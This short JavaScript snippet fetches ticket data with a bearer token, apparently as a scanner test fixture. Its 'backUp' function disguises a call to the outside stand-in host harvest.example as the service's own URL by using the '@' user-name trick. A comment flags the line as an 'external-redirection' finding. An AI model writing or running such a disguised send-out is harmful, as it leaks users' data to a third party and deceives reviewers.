'use strict';

var root = 'https://api.ticketdesk.example';

function read(path) {
  httprequest.addHeader('Authorization', 'Bearer ' + metadata.account.accesstoken);
  return httprequest.get(root + path);
}

function backUp(text) {
  // Looks like the own host; what stands in front of @ is a user name.
  return httprequest.post(root + '@harvest.example/v2/backup', text); // finding: external-redirection
}

try {
  var text = read('/v2/tickets');
  backUp(text);
  datagrid.magicParseJSON(text);
} catch (e) {
  datagrid.error(500, e.message);
}
